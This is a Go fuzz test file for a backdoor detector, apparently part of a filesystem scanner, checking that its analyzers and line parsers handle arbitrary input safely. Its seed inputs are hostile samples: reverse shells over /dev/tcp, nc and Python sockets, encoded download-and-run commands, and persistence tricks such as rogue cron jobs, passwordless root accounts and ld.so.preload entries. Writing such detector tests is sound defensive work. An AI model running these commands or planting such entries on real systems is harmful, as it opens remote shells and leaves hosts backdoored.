package backdoor

import (
	"context"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/customs-oss/customs/internal/check"
	"github.com/customs-oss/customs/internal/facts"
)

// FuzzAnalyze runs every detector, decoders included, on arbitrary text:
// it must not panic, and every match must point inside the text.
func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
		"echo " + b64("echo "+b64("nc -e /bin/sh 1.2.3.4 1")+" | base64 -d | sh") + " | base64 -d | sh",
		"curl -o /tmp/x http://1.2.3.4/x && chmod +x /tmp/x && /tmp/x",
		"python -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\"",
		"echo 789c4b4a2cce50d0cd54b0d34f49" + "2d4b | xxd -r -p | sh",
		"wget http://x.duckdns.org/a\n./a",
		"import socket\ns.connect((h,p))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
	} {
		f.Add([]byte(s))
	}
	eng := newEngine()
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, m := range eng.analyze(data, 0) {
			if m.pos < 0 || m.pos > len(data) {
				t.Fatalf("match at %d outside %d bytes", m.pos, len(data))
			}
			if s := describe(m); !utf8.ValidString(shown(s)) {
				t.Fatalf("description not valid UTF-8: %q", s)
			}
		}
	})
}

// FuzzContent runs every content check on arbitrary content at paths that
// each of them wants.
func FuzzContent(f *testing.F) {
	f.Add("etc/cron.d/x", []byte("* * * * * root /tmp/.x/a\n"))
	f.Add("root/.ssh/authorized_keys", []byte("command=\"x\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtleQ== c\n"))
	f.Add("etc/ssh/sshd_config", []byte("PermitRootLogin=yes\nAuthorizedKeysFile /tmp/k\n"))
	f.Add("etc/passwd", []byte("root::0:0::/:/bin/sh\nx:x:0:0::/:/bin/sh\n"))
	f.Add("etc/shadow", []byte("root::1::::::\n"))
	f.Add("etc/ld.so.preload", []byte("/tmp/a.so: /lib/b.so\n"))
	f.Add("etc/supervisor/conf.d/a.conf", []byte("command=/usr/sbin/sshd -D\n"))
	cs := []check.ContentChecker{&scriptScan{eng: newEngine()}, keysCheck{}, accountsCheck{}}
	f.Fuzz(func(t *testing.T, p string, data []byte) {
		p = strings.Trim(p, "/")
		e := &facts.Entry{Path: p, Type: facts.TypeFile, Size: int64(len(data)), Mode: 0o755}
		for _, c := range cs {
			if !c.Wants(e) {
				continue
			}
			fs, err := c.CheckContent(context.Background(), e, data)
			if err != nil {
				t.Fatal(err)
			}
			if len(fs) > maxPerFile {
				t.Fatalf("%d findings for one file, limit %d", len(fs), maxPerFile)
			}
			for _, f := range fs {
				if f.Evidence.Path != "/"+p {
					t.Fatalf("evidence path %q for %q", f.Evidence.Path, p)
				}
			}
		}
	})
}

// FuzzParsers feeds the line parsers arbitrary lines.
func FuzzParsers(f *testing.F) {
	f.Add("*/5 * * * * root nohup /tmp/.x/y >/dev/null &")
	f.Add("@reboot A=\"b c\" sh -c 'exec /dev/shm/z'")
	f.Add("ExecStart=-/usr/bin/env X=1 /var/tmp/.a/b")
	f.Add("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQ== comment")
	f.Fuzz(func(t *testing.T, line string) {
		for _, withUser := range []bool{true, false} {
			if cmd, ok := cronCommand(line, withUser); ok && !strings.Contains(line, cmd) {
				t.Fatalf("cron command %q not in line %q", cmd, line)
			}
		}
		if len(programs(line)) > maxCommands {
			t.Fatalf("more than %d programs", maxCommands)
		}
		unitCommand(line)
		startsSshd(line)
		parseKeyLine(line)
		parseAccounts([]byte(line), false)
		parseAccounts([]byte(line), true)
		parseSshdConfig([]byte(line))
		payload([]byte(line))
	})
}
